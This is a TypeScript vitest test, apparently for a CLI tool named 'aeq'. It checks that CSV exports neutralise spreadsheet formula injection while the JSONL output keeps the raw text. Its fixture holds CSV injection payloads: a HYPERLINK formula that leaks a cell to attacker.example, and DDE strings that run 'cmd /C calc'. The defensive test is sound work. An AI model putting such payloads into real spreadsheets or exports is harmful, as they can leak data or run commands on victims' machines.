import fs from 'node:fs';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runCli } from '../helpers/cli.js';
import { TEST_KEY, startService, tempDir, type RunningService } from '../helpers/service.js';

/**
 * Answer text is what an upstream page says. Pages on loopback (read as asked in the sandbox) open with a
 * spreadsheet formula; `aeq run --csv` and `aeq export --format csv` must write each as text (a leading `'`),
 * while the JSONL keeps the answer as it was.
 */
const FORMULAS: Record<string, string> = {
  eq: '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for details")',
  plus: '+cmd|" /C calc"!A0',
  minus: '-2+3+cmd|" /C calc"!A0',
  at: '@SUM(1+1)*cmd|" /C calc"!A0',
};
const BODY = 'Running shoes for knee pain need cushioning and a stable heel, according to this review. ';

function pageFor(formula: string): string {
  // No heading or title: the page's text starts with the formula.
  const text = `${formula.replace(/&/g, '&amp;').replace(/</g, '&lt;')} ${BODY.repeat(6)}`;
  return `<!doctype html><html><head></head><body><article><p>${text}</p></article></body></html>`;
}

describe('CSV written by the CLI escapes formulas (OWASP CSV injection)', () => {
  let svc: RunningService;
  let pages: http.Server;
  let base = '';
  let env: Record<string, string>;
  beforeAll(async () => {
    pages = http.createServer((req, res) => {
      const formula = FORMULAS[(req.url ?? '').slice(1)];
      if (!formula) return void res.writeHead(404).end();
      res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' }).end(pageFor(formula));
    });
    await new Promise<void>((r) => pages.listen(0, '127.0.0.1', r));
    base = `http://127.0.0.1:${(pages.address() as AddressInfo).port}`;
    svc = await startService();
    env = { AEQ_URL: svc.url, AEQ_API_KEY: TEST_KEY };
  });
  afterAll(async () => {
    await svc.stop();
    await new Promise<void>((r) => pages.close(() => r()));
  });

  it('aeq run --csv and aeq export: every answer cell that would start a formula starts with a quote', async () => {
    const dir = tempDir('aeq-csv-');
    const urls = Object.keys(FORMULAS).map((k) => `${base}/${k}`);
    fs.writeFileSync(path.join(dir, 'pages.csv'), `${['prompt', ...urls].join('\n')}\n`);
    const run = await runCli(['run', 'pages.csv', '--engines', 'WEB_SCRAPE', '--csv', '--poll-interval', '100'], {
      cwd: dir,
      env,
    });
    expect(run.code, run.stderr).toBe(0);

    // The JSONL keeps the page's text as read: the test's pages really do start with formulas.
    const jsonl = fs
      .readFileSync(path.join(dir, 'pages.results.jsonl'), 'utf8')
      .split('\n')
      .filter(Boolean)
      .map((l) => JSON.parse(l) as { study: { prompt: string }; status: string; response: { text: string } });
    expect(jsonl).toHaveLength(urls.length);
    for (const r of jsonl) {
      expect(r.status).toBe('COMPLETED');
      const formula = FORMULAS[r.study.prompt.slice(base.length + 1)] as string;
      expect(r.response.text.startsWith(formula), r.response.text.slice(0, 80)).toBe(true);
    }

    const study = parse(fs.readFileSync(path.join(dir, 'pages.results.csv')), { columns: true }) as Array<
      Record<string, string>
    >;
    expect(study).toHaveLength(urls.length);
    for (const row of study) {
      const formula = FORMULAS[(row.prompt as string).slice(base.length + 1)] as string;
      expect(row.answer?.startsWith(`'${formula}`), row.answer?.slice(0, 80)).toBe(true);
    }

    const exported = await runCli(['export', '--since', '1h', '--format', 'csv', '--out', 'export.csv'], {
      cwd: dir,
      env,
    });
    expect(exported.code, exported.stderr).toBe(0);
    const rows = parse(fs.readFileSync(path.join(dir, 'export.csv')), { columns: true }) as Array<
      Record<string, string>
    >;
    const answers = rows.filter((r) => r.type === 'WEB_SCRAPE').map((r) => r.answer ?? '');
    expect(answers).toHaveLength(urls.length);
    // No cell of the file starts a formula; each answer is the quoted form of one of the pages' formulas.
    for (const row of [...rows, ...study])
      for (const cell of Object.values(row)) expect(cell, cell.slice(0, 80)).not.toMatch(/^[=+\-@\t\r]/);
    for (const a of answers)
      expect(
        Object.values(FORMULAS).some((f) => a.startsWith(`'${f}`)),
        a.slice(0, 80),
      ).toBe(true);
  });
});
